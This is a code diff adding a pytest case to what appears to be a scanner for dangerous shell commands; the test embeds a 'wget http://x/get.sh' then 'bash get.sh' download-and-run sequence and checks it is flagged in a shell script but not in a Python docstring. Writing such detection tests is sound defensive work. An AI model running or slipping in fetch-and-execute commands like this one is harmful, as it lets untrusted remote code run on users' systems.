@@ -320,6 +320,12 @@ FETCHED = [
 ]
 
 
+def test_what_source_says_of_files_that_are_downloaded():
+    text = '"""Fetch it first::\n\n    wget http://x/get.sh\n    bash get.sh\n"""\nimport torch\n'
+    assert verdicts(text, "train.py") == []
+    assert verdicts(text, "run.sh") == [("MLG-CMD-001", "high")]
+
+
 @pytest.mark.parametrize("command", FETCHED)
 def test_a_download_that_is_run(command):
     plain = command.format("http://x.example/y")
